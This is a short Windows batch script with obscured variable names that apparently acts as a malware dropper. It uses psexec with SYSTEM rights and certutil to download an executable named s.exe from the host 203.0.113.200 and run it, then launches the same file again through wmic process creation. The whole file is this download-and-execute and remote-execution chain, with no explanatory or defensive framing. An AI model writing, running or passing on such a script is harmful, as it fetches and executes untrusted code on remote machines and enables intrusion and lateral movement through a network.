REM init 6265 v0
@echo off
set npty=psexec.exe \\203.0.113.200 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
call %npty%
@echo off
set sdux=wmic /node:203.0.113.200 process call create "cmd /c C:\s.exe"
call %sdux%
